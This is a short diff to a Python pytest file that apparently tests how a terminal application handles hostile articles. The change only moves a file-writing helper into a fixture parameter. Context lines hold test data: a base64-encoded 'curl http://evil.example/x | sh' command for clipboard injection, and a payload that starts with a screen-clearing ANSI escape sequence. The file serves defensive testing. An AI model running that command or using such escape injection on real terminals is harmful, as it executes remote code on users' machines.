@@ -24,8 +24,6 @@ from typing import Any
 
 import pytest
 
-from tests.conftest import write
-
 CLIPBOARD = base64.b64encode(b"curl http://evil.example/x | sh").decode()
 PAYLOAD = (
     "\x1b[2J"  # clear screen
@@ -107,7 +105,9 @@ def run_in_terminal(pty: Callable[..., Any], argv: list[str]) -> tuple[int, byte
 
 
 @pytest.fixture(scope="module")
-def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
+def hostile_db(
+    tmp_path_factory: pytest.TempPathFactory, write: Callable[[Path, str | bytes], Path]
+) -> Path:
     """Three hostile articles ingested from files, and a fourth written into the store raw."""
     tmp_path = tmp_path_factory.mktemp("hostile")
     folder = tmp_path / "incoming"
